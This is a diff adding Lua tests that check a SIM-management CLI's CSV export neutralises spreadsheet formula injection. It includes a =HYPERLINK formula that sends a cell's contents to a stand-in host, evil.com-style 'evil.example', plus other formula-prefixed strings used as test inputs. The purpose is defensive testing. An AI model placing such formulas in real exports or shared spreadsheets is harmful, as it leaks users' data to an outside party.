@@ -81,6 +81,67 @@ describe("flexiroam output", function()
     assert.equals("sku,iccid", c.out:match("^[^\n]+"))
   end)
 
+  describe("CSV a spreadsheet opens", function()
+    local HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+    -- A SIM labelled with a formula (the label is the operator's or the
+    -- API's, not ours), a user name that is a plain negative number, and a
+    -- department in plain words.
+    local function labelled_sim()
+      local sim = assert(client:collect("list_inventory", {}, { max_items = 1 }))[1]
+      assert(client:update_sim { iccid = sim.iccid, device_info = { name = HYPERLINK },
+        user_info = { username = "-5", department = "Sales" } })
+      return sim
+    end
+    -- A parsed row's cells, without the line it starts on.
+    local function cells_of(row)
+      local out = {}
+      for i = 1, #row do out[i] = row[i] end
+      return out
+    end
+    local FIELDS = "iccid,sku,device_info.name,user_info_username,user_info_department"
+
+    it("writes text that would run as a formula after a quote; numbers and plain text exactly", function()
+      local sim = labelled_sim()
+      for _, args in ipairs {
+        { "sims", "show", sim.iccid, "-o", "csv", "--fields", FIELDS },
+        { "sims", "list", "--search-by", "iccid", "--search", sim.iccid, "-o", "csv", "--fields", FIELDS },
+      } do
+        local r = run(args)
+        assert.equals(0, r.code, r.err)
+        local rows = assert(csv.parse(r.out))
+        assert.same({ sim.iccid, tostring(sim.sku), "'" .. HYPERLINK, "-5", "Sales" }, cells_of(rows[2]))
+      end
+    end)
+
+    it("--csv-raw writes every cell exactly, formulas too", function()
+      local sim = labelled_sim()
+      local r = run { "sims", "show", sim.iccid, "-o", "csv", "--csv-raw", "--fields", FIELDS }
+      assert.equals(0, r.code, r.err)
+      assert.same({ sim.iccid, tostring(sim.sku), HYPERLINK, "-5", "Sales" }, cells_of(assert(csv.parse(r.out))[2]))
+      local help = run { "help" }
+      assert.truthy(help.out:find("--csv-raw", 1, true), "the manual lists --csv-raw")
+    end)
+
+    it("guards only strings: a negative number stays a number, a header from a server's key is guarded", function()
+      local output = require("flexiroam.cli.output")
+      local function written(records, opts)
+        local parts = {}
+        local w = output.list { format = "csv", write = function(s) parts[#parts + 1] = s end,
+          fields = opts.fields, csv_raw = opts.raw }
+        for _, record in ipairs(records) do w:add(record) end
+        w:finish()
+        return table.concat(parts)
+      end
+      local keyed = { { ["@key"] = "x" }, { ["@key"] = "y" } }
+      assert.equals("'@key\nx\ny\n", written(keyed, {}))
+      assert.equals("@key\nx\ny\n", written(keyed, { raw = true }))
+      local rows = assert(csv.parse(written({ { balance = -5, note = "-5", label = "plain", tab = "\t=1+2",
+        sum = "+1+2" } }, { fields = { "balance", "note", "label", "tab", "sum" } })))
+      assert.same({ "-5", "-5", "plain", "'\t=1+2", "'+1+2" }, cells_of(rows[2]))
+    end)
+  end)
+
   describe("on a terminal", function()
     local have = cli.have_pty()
 
